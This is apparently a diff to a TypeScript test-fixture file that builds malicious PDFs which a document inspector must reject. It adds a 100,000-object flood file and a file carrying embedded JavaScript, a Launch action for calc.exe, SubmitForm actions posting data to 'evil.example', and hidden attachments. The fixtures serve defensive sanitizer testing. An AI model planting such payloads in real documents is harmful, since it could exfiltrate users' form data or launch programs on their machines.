@@ -1,7 +1,7 @@
 // Builders for PDFs the inspector must refuse. Each is made here, in memory, in milliseconds.
 import { randomBytes } from 'node:crypto';
 import { constants, deflateRawSync } from 'node:zlib';
-import { PDFDocument, PDFHexString, PDFName, PDFNumber, PDFString, StandardFonts, type PDFRef } from '@cantoo/pdf-lib';
+import { PDFDict, PDFDocument, PDFHexString, PDFName, PDFNumber, PDFString, StandardFonts, type PDFRef } from '@cantoo/pdf-lib';
 
 const ascii = (s: string): Buffer => Buffer.from(s, 'latin1');
 
@@ -64,5 +64,58 @@ export async function signedPdf(mode: 'sig-value' | 'docmdp'): Promise<Uint8Arra
   form.acroForm.addField(field);
   form.acroForm.dict.set(PDFName.of('SigFlags'), PDFNumber.of(3));
   if (mode === 'docmdp') doc.catalog.set(PDFName.of('Perms'), doc.context.obj({ DocMDP: sig }));
+  return doc.save();
+}
+
+/**
+ * A valid one-page form (one text field) that also holds `count` tiny objects, all reachable from the
+ * page: what a 5.5 MB upload of 100,000 objects looks like. Without limits it imported in a second
+ * and then stalled every fill for twenty.
+ */
+export async function manyObjects(count: number): Promise<Uint8Array> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([612, 792]);
+  const field = doc.getForm().createTextField('name');
+  field.addToPage(page, { x: 72, y: 600, width: 200, height: 20 });
+  const refs = Array.from({ length: count }, (_, i) => doc.context.register(doc.context.obj({ N: i })));
+  page.node.set(PDFName.of('PieceInfo'), doc.context.obj({ Junk: doc.context.obj(refs) }));
+  return doc.save({ useObjectStreams: false });
+}
+
+/**
+ * A form carrying every kind of active content the import removes, beside visible text and a plain
+ * web link that must survive: document and field JavaScript, /OpenAction, /AA, /Launch, /SubmitForm,
+ * /ImportData, /GoToR, an embedded file and a file-attachment annotation.
+ */
+export async function activeContentPdf(): Promise<Uint8Array> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([612, 792]);
+  page.drawText('Visible agreement text', { x: 72, y: 720, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
+  const form = doc.getForm();
+  const field = form.createTextField('full_name');
+  field.addToPage(page, { x: 72, y: 600, width: 200, height: 20 });
+  const { context } = doc;
+  const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
+  doc.catalog.set(PDFName.of('OpenAction'), context.register(js('app.alert("opened")')));
+  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert("closing")') }));
+  field.acroField.dict.set(PDFName.of('AA'), context.obj({ K: js('event.value = event.value.toUpperCase()'), C: js('event.value = 1') }));
+  const jsTree = context.obj({ Names: [PDFString.of('init'), context.register(js('this.submitForm("https://evil.example/")'))] });
+  doc.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: jsTree }));
+  await doc.attach(new TextEncoder().encode('secret payload'), 'payload.txt', { mimeType: 'text/plain', description: 'attached' });
+  const link = (action: PDFDict, y: number) => context.register(context.obj({
+    Type: 'Annot', Subtype: 'Link', Rect: [72, y, 272, y + 20], Border: [0, 0, 0], A: action,
+  }));
+  const annots = [
+    link(context.obj({ S: 'Launch', F: PDFString.of('calc.exe') }), 500),
+    link(context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }), 470),
+    link(context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') }), 440),
+    link(context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] }), 410),
+    link(context.obj({ S: 'URI', URI: PDFString.of('https://example.com/terms') }), 380),
+    context.register(context.obj({
+      Type: 'Annot', Subtype: 'FileAttachment', Rect: [300, 380, 320, 400], Name: 'PushPin',
+      FS: context.obj({ Type: 'Filespec', F: PDFString.of('note.txt'), EF: context.obj({ F: context.register(context.flateStream('hidden note', { Type: 'EmbeddedFile' })) }) }),
+    })),
+  ];
+  for (const annot of annots) page.node.addAnnot(annot);
   return doc.save();
 }
